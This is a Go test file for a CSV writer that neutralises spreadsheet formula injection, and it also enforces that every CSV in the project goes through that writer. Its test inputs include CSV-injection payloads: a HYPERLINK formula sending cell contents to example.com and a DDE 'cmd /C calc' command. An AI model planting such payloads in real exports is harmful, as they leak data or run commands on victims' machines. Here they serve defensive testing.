package render

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestWriter_DefusesFormulasAndKeepsNumbers(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://example.com/?d="&A1,"Ver")`, `'=HYPERLINK("http://example.com/?d="&A1,"Ver")`},
		{"+52 998 000 0000", "'+52 998 000 0000"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"2024 T2", "2024 T2"},
		{"Prevención = 3", "Prevención = 3"},
		{"", ""},
		{"42", "42"},
		{"-7", "-7"},
		{"1.5", "1.5"},
		{"<5", "<5"},
	}
	var out bytes.Buffer
	w := NewCSVWriter(&out)
	for _, tt := range tests {
		w.Write([]string{"celda", tt.in})
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, tt := range tests {
		if got := rows[i][1]; got != tt.want {
			t.Errorf("%q written as %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Every CSV the product writes goes through this package.
func TestNoOtherPackageWritesCSV(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == "var" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.Base(filepath.Dir(path)) == "render" {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(src, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes CSV itself; use render.NewCSVWriter, which defuses formulas", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
